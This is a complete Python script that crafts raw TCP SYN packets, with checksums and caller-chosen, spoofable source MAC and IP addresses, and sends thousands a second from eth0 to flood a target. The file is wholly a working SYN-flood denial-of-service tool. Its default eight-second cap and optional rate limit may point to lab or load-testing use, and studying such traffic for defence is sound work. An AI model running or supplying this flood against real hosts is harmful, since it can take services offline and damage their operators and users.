"""A flood of valid TCP SYNs: ``flood.py SRC_MAC DST_MAC SRC DST COUNT [SECONDS [RATE]]``.

Each is a new connection, and ends with COUNT or after SECONDS; at most RATE a second, if given.

Written with raw frames, so that one small program makes thousands a second;
standard library only.
"""

from __future__ import annotations

import socket
import struct
import sys
import time

LONGEST = 8.0  # seconds where none are given, however slow the machine


def checksum(data: bytes) -> int:
    """RFC 1071."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    folded: int = ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF
    return folded


def syn(source: bytes, target: bytes, number: int) -> bytes:
    """IPv4 and TCP headers of the ``number``-th SYN, each from and to other ports."""
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, number & 0xFFFF, 0, 64, 6, 0, source, target)
    ip = ip[:10] + checksum(ip).to_bytes(2, "big") + ip[12:]
    ports = (1024 + number % 60_000, 1 + number % 65_000)
    tcp = struct.pack("!HHIIBBHHH", *ports, 0, 0, 0x50, 2, 1000, 0, 0)
    whole = checksum(source + target + struct.pack("!HH", 6, 20) + tcp)
    return ip + tcp[:16] + whole.to_bytes(2, "big") + tcp[18:]


def flood(
    macs: tuple[str, str],
    addresses: tuple[str, str],
    count: int,
    seconds: float = LONGEST,
    rate: float = 1e9,
) -> int:
    """Send up to ``count`` SYNs from eth0; how many it were."""
    src, dst = (bytes.fromhex(mac.replace(":", "")) for mac in macs)
    source, target = (socket.inet_aton(address) for address in addresses)
    start = time.monotonic()
    until = start + seconds
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
        raw.bind(("eth0", 0))
        for number in range(count):
            if time.monotonic() > until:
                return number
            time.sleep(max(0.0, start + number / rate - time.monotonic()))
            raw.send(dst + src + b"\x08\x00" + syn(source, target, number))
    return count


if __name__ == "__main__":
    limits = [float(word) for word in sys.argv[6:8]]
    ends = (sys.argv[1], sys.argv[2]), (sys.argv[3], sys.argv[4])
    print(flood(*ends, int(sys.argv[5]), *limits))
